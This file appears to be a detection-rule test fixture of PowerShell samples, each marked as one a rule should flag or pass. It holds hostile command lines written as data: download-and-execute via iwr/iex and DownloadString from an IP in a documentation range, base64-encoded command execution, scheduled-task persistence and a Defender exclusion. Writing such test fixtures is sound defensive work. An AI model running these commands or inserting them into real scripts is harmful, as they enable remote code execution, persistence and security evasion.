# Inert PowerShell samples; 203.0.113.0/24 is a documentation range. Never run.
# ruleid: shell-network-egress
Invoke-WebRequest -Uri https://api.example.org/v1/ping -UseBasicParsing
# ruleid: remote-code-untrusted-host
iwr http://203.0.113.7/a.ps1 | iex
# ruleid: remote-code-untrusted-host
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/b.ps1')
# ruleid: shell-decoded-payload-exec
powershell -NoProfile -EncodedCommand dwBoAG8AYQBtAGkA
# ruleid: shell-decoded-payload-exec
iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))
# ruleid: shell-persistence
schtasks /create /tn Updater /tr "powershell -File C:\Users\Public\u.ps1" /sc onlogon
# ok: shell-persistence
schtasks /query /tn Updater
# ruleid: shell-gatekeeper-bypass
Add-MpPreference -ExclusionPath C:\Users\Public
# ok: shell-network-egress
Write-Host "Invoke-WebRequest https://evil.example"
